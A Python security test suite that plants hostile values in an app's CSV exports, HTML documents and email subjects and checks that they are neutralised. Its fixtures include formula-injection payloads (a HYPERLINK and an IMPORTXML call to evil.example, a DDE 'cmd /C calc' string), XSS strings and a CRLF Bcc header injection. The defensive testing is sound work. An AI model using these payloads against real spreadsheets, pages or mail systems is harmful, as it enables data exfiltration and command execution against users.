"""User text in exports, documents and emails (security review: CSV formula injection, medium).

Every CSV export goes through core/csvout.py, which neutralises cells a spreadsheet would run as a
formula (OWASP "CSV Injection"); documents are HTML-escaped by Jinja2's autoescape; email subjects
are one line (core/outbox.py). Each test plants hostile values in every user-writable (or imported)
text field that reaches the output and reads the output back as a client would."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

from sqlalchemy import select

from core.context import queue_email
from core.csvout import FORMULA_TRIGGERS, FULLWIDTH_TRIGGERS
from core.models import Tenant
from core.rls import EVERY_TENANT  # the test's own inspection: every tenant (core/rls.py)
from plugins.renewals.downloads import SUMMARY_SOURCES
from tests.conftest import ACME, GLOBEX
from tests.invoicing.test_api import PAY, invoice
from tests.invoicing.test_billing import product, sub
from tests.renewals.helpers import renewal

# An address a spreadsheet would read as a formula; RFC 5322 allows it, and so do the validators.
EVIL = "-tech@acme.com"
TENANT = {**ACME, "people": [*ACME["people"], {"email": EVIL, "roles": ["TECHNICAL", "FINANCE"]}]}
AS_EVIL = {"as_": EVIL}
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"x")'
DDE = "@SUM(1+9)*cmd|' /C calc'!A0"
CART = "+SUM(1+9)"
NUMBER = re.compile(r"-?\d+(\.\d+)?")
UPDATE = "mutation($i: UpdateRenewalInput!) { updateRenewal(input: $i) { __typename } }"
ADD = "mutation($sns: [String!]!) { addToCart(supportNumbers: $sns) { id } }"
SAVE = "mutation($n: String!) { saveCart(name: $n) { id } }"
INVITE = "mutation($input: InviteUserInput!) { inviteUser(input: $input) { id } }"


def dangerous(cell: str) -> bool:
    """A cell a spreadsheet would evaluate (a plain number the product wrote is fine)."""
    if NUMBER.fullmatch(cell):
        return False
    return cell.startswith(FORMULA_TRIGGERS) or cell.lstrip().startswith(("=", "+", "-", "@", *FULLWIDTH_TRIGGERS))


def table(resp: Any) -> list[dict[str, str]]:
    assert resp.status_code == 200, resp.text
    assert resp.headers["content-type"].startswith("text/csv")
    header, *rows = list(csv.reader(io.StringIO(resp.text)))
    return [dict(zip(header, r, strict=True)) for r in rows]


async def plant(api: Any) -> None:
    """Hostile text in every field that reaches an export: imported renewal, line, invoice, payment
    and subscription fields, and what customers type (customer reference, PO number, cart name,
    payment reference; their own email is the SSO username and "last updated by")."""
    line = {
        "product": "-7+8",
        "productFamily": "DATABASE",
        "serviceLevel": " =9",
        "csiNumber": "\uff1dCSI",
        "quantity": "2",
        "serialNumber": "@SN",
        "installedAt": '=IMPORTXML("http://evil.example","//a")',
        "salesOrderNumber": "+SO",
        "amount": "100.00",
    }
    hostile = {
        "quote_to": EVIL,
        "amount": "100.00",
        "lines": [line],
        "customer": "=1+2",
        "endUser": "+3+4",
        "serviceLevel": "\t=5",
        "supportNotes": "\r=6",
        "quoteNumber": "@Q",
        "salesRepEmail": "=rep@vendor.example",
    }
    await api.load(
        {
            "tenants": [TENANT, GLOBEX],
            "renewals": [
                renewal("X-1", 60, **hostile),
                renewal("X-2", 70, **hostile),
                renewal("X-H", 10, status="ACCEPTED", poNumber="=PO(1)", **hostile),
                renewal("X-F", 200, customerReference="-FUT", **hostile),
            ],
            "invoices": [
                invoice("INV-1", "5000.00", order="=ORD(1)", poNumber="-PO+1", billingEmail="=ap@acme.com"),
                invoice("INV-2", "50.00"),
                invoice("INV-3", "50.00", payments=[{"reference": "+REF(9)", "amount": "10.00"}]),
            ],
            "subscriptions": [
                sub(
                    "S-1",
                    "2026-01-01",
                    "2026-12-31",
                    "ANNUAL_ADVANCE",
                    product("DB", "1200.00", "2026-01-01", order="@O-1", product="=DB+1", poNumber="-PO"),
                )
            ],
        }
    )
    await api.ok(UPDATE, {"i": {"supportNumber": "X-1", "customerReference": HYPERLINK, "poNumber": DDE}}, **AS_EVIL)
    await api.ok(ADD, {"sns": ["X-1"]}, **AS_EVIL)
    await api.ok(SAVE, {"n": CART}, **AS_EVIL)
    await api.ok(ADD, {"sns": ["X-2"]}, **AS_EVIL)
    wire = {"invoices": [{"invoiceNumber": "INV-1"}], "method": "WIRE", "reference": DDE}
    card = {"invoices": [{"invoiceNumber": "INV-2"}], "method": "CARD", "cardToken": "tok_visa_4242"}
    await api.ok(PAY, {"input": wire}, **AS_EVIL)
    await api.ok(PAY, {"input": {**card, "reference": HYPERLINK}}, **AS_EVIL)


def csv_routes(api: Any) -> set[str]:
    return {r.path for r in api.client._transport.app.routes if ".csv" in getattr(r, "path", "")}


EXPORTS = {
    "/renewals/export.csv": [f"/renewals/export.csv?list={n}" for n in ("pending", "history", "future")],
    "/renewals/report/summary.csv": [f"/renewals/report/summary.csv?source={s}" for s in SUMMARY_SOURCES],
    "/renewals/report/detailed.csv": ["/renewals/report/detailed.csv?source=pending"],
    "/invoicing/invoices.csv": ["/invoicing/invoices.csv"],
    "/invoicing/payments.csv": ["/invoicing/payments.csv"],
    "/invoicing/subscriptions/{number}/schedule.csv": ["/invoicing/subscriptions/S-1/schedule.csv"],
}


async def test_no_export_cell_is_a_formula(api):
    """Security review (CSV formula injection): the renewal exports (standard, summary from every
    source, detailed) and the invoicing exports (invoices, payments, billing schedule) write every
    planted value with a leading quote, and no cell of any of them starts with = + - @ tab or CR.
    A new CSV route fails here until it is added to EXPORTS."""
    await plant(api)
    assert csv_routes(api) == set(EXPORTS)
    downloaded: dict[str, list[dict[str, str]]] = {}
    for urls in EXPORTS.values():
        for url in urls:
            rows = table(await api.get(url, **AS_EVIL))
            assert rows, url
            downloaded[url] = rows
            for row in rows:
                bad = {k: v for k, v in row.items() if dangerous(v) or dangerous(k)}
                assert not bad, (url, bad)

    def row(url: str, key: str, value: str) -> dict[str, str]:
        return next(r for r in downloaded[url] if r[key] == value)

    x1 = row("/renewals/export.csv?list=pending", "Support Contract Number", "X-1")
    assert x1["Customer Reference"] == "'" + HYPERLINK and x1["PO Number"] == "'" + DDE
    assert (x1["Customer"], x1["End User"], x1["Service Level"]) == ("'=1+2", "'+3+4", "'\t=5")
    assert (x1["Quote-To Email"], x1["Sales Rep"]) == ("'" + EVIL, "'=rep@vendor.example")
    assert x1["Amount"] == "100.00"
    history = row("/renewals/report/summary.csv?source=history", "Support Contract Number", "X-H")
    assert history["PO Number"] == "'=PO(1)" and history["Support Notes"] == "'\r=6"
    assert history["Quote Per Contract"] == "'@Q" and history["SSO Username"] == "'" + EVIL
    saved = row("/renewals/report/summary.csv?source=saved_carts", "Support Contract Number", "X-1")
    assert saved["Saved Cart"] == "'" + CART and saved["Last Updated By"] == "'" + EVIL
    assert row("/renewals/report/summary.csv?source=future", "Support Contract Number", "X-F")[
        "Customer Reference"
    ] == ("'-FUT")
    detail = row("/renewals/report/detailed.csv?source=pending", "Support Contract Number", "X-1")
    assert (detail["Product"], detail["CSI Number"], detail["Serial Number"]) == ("'-7+8", "'\uff1dCSI", "'@SN")
    assert detail["Installed At"].startswith("'=IMPORTXML") and detail["Sales Order Number"] == "'+SO"
    assert detail["Service Level"] == "' =9"
    inv = row("/invoicing/invoices.csv", "Invoice Number", "INV-1")
    assert (inv["Order Number"], inv["PO Number"], inv["Billing Email"]) == ("'=ORD(1)", "'-PO+1", "'=ap@acme.com")
    references = {r["Reference"] for r in downloaded["/invoicing/payments.csv"]}
    assert {"'" + DDE, "'" + HYPERLINK, "'+REF(9)"} <= references
    entry = downloaded["/invoicing/subscriptions/S-1/schedule.csv"][0]
    assert (entry["Product"], entry["Order Number"], entry["PO Number"]) == ("'=DB+1", "'@O-1", "'-PO")


async def test_documents_escape_user_text(api):
    """Same class in HTML (security review): the ordering document (R-R14) and the invoice document
    (R-I2) show a customer's markup as text — Jinja2 autoescapes every .html template."""
    script = "<script>alert(1)</script>"
    await api.load(
        {
            "tenants": [TENANT, GLOBEX],
            "renewals": [renewal("X-1", 60, quote_to=EVIL, customer='"><img src=x onerror=alert(1)>')],
            "invoices": [invoice("INV-1", "50.00", poNumber=script)],
        }
    )
    await api.ok(UPDATE, {"i": {"supportNumber": "X-1", "customerReference": script}}, **AS_EVIL)
    for url in ("/renewals/X-1/ordering-document", "/invoicing/invoices/INV-1/document"):
        resp = await api.get(url, **AS_EVIL)
        assert resp.status_code == 200 and resp.headers["content-type"].startswith("text/html")
        assert "<script>" not in resp.text and "&lt;script&gt;alert(1)&lt;/script&gt;" in resp.text, url
        assert "<img" not in resp.text


async def test_email_subjects_are_one_line_and_a_bad_email_fails_alone(api, smtp):
    """Same class in email headers (security review): a tenant name with a line break (imported)
    reaches an invitation's subject. The subject goes out as one line with no injected header, and
    an email whose address cannot stand in a header fails alone instead of stopping every delivery
    run at it (before, the standard library's refusal escaped the run: nothing was sent again)."""
    await api.load({"tenants": [{**ACME, "name": "Acme\r\nBcc: spy@evil.example"}, GLOBEX]})
    async with api.state.sessionmaker(info=EVERY_TENANT) as session, session.begin():
        acme = (await session.execute(select(Tenant.id).where(Tenant.key == "acme"))).scalar_one()
        queue_email(session, api.clock.now(), acme, "x@acme.com\r\nBcc: spy@evil.example", "Hi", "b", kind="test")
    await api.ok(INVITE, {"input": {"email": "new@acme.com"}}, as_="admin@acme.com")
    assert await api.run_jobs("outbox.deliver") == {"outbox.deliver": 1}
    [msg] = smtp.messages
    assert msg["To"] == "new@acme.com" and msg["Bcc"] is None
    assert msg["Subject"].strip() == "You have been invited to the Acme Bcc: spy@evil.example customer center"
    assert not smtp.to("spy@evil.example")
    rows = await api.sql("select to_addr, status from outbox_emails order by id")
    assert [r[1] for r in rows] == ["FAILED", "SENT"]
